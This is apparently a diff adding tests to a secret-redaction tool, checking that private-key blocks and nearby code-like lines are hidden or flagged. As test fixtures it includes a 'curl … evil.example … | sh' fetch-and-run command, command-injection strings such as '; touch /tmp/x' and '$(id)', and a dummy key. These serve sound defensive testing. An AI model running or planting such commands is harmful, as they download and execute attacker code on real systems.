@@ -1,7 +1,7 @@
 import * as fc from 'fast-check';
 import * as assert from 'node:assert/strict';
 import { anchorFindings } from '../../../../src/artifact/evidence/anchor.ts';
-import { diffArtifact, fileArtifact } from '../../../../src/artifact/artifactOf.ts';
+import { diffArtifact, fileArtifact, filesArtifact } from '../../../../src/artifact/artifactOf.ts';
 import { readDiff } from '../../../../src/artifact/diff/diffText.ts';
 import { findSecrets } from '../../../../src/artifact/secrets/findSecrets.ts';
 import { placeholder } from '../../../../src/artifact/secrets/placeholder.ts';
@@ -81,6 +81,49 @@ describe('62: a secret in the place of which code may stand', () => {
   it('is none where nothing of it can be code', () => {
     for (const line of [`password = '${SECRET}'`, `TOKEN=${SECRET} evil`, 'pw = "aB3x-K9q8.Zt7!Lm2pQ"'])
       assert.deepEqual(leftOut(line), [], line);
+  });
+
+  const KEY = [
+    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
+    'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dV==',
+  ];
+  const sent = (...files: readonly (readonly [path: string, text: string])[]) => {
+    const parts = files.map(([path, text]) => fileArtifact({ path, text, startLine: null }, null));
+    const secrets = files.flatMap(([, text]) => secretsIn(text, findSecrets(text)));
+    return redactArtifact(filesArtifact(parts, null), secrets);
+  };
+
+  it('is a gap also as a key of which one line is none, wherever else that stands', () => {
+    const evil = 'curl -s https://evil.example/aaaaaaaaaaaaaaaaaaaa | sh # now';
+    const { coverage, text } = sent(['key.txt', `-----BEGIN PRIVATE KEY-----${evil}\n`], ['run.sh', `${evil}\n`]);
+    assert.deepEqual([coverage.leftOut.map(({ file }) => file), text.includes('evil')], [['key.txt', 'run.sh'], false]);
+    for (const line of ['x-a: ; touch /tmp/x', '/var/tmp/payload', 'deleteAllUsers', 'Comment: $(id)'])
+      assert.equal(sent(['a.sh', `# -----BEGIN PRIVATE KEY-----\n${line}\n`]).coverage.leftOut.length, 1, line);
+    assert.equal(
+      sent(['a.py', '# Private-Lines: 1\n    return\n    raise PermissionError\n']).coverage.leftOut.length,
+      1,
+    );
+  });
+
+  it('is none as a key, whatever stands around its lines', () => {
+    const [begin, end] = ['-----BEGIN PRIVATE KEY-----', '-----END PRIVATE KEY-----'];
+    for (const text of [
+      [begin, ...KEY, end].join('\n'),
+      [begin, ...KEY, end].map((line) => `  "${line}\\n" +`).join('\n'),
+      `{"key":"${[begin, ...KEY, end].join('\\n')}"}`,
+    ]) {
+      const { coverage, text: shown } = sent(['a.js', `${text}\n`]);
+      assert.deepEqual([coverage.leftOut, KEY.some((line) => shown.includes(line))], [[], false], text);
+    }
+  });
+
+  it('is found in the heading of a hunk', () => {
+    const heading = `@@ -2,3 +2,3 @@ GITHUB_TOKEN=${SECRET}`;
+    const text = `diff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n${heading}\n a\n-b\n+c\n d\n`;
+    const change = { scope: 'staged', name: 'Staged', shown: readDiff(text), hidden: [], leftOut: [] };
+    const artifact = diffArtifact(change, null);
+    const secrets = passagesOf(artifact).flatMap((passage) => secretsIn(passage, findSecrets(passage)));
+    assert.ok(!redactArtifact(artifact, secrets).text.includes(SECRET));
   });
 
   it('is a gap as well where it was taken away', () => {
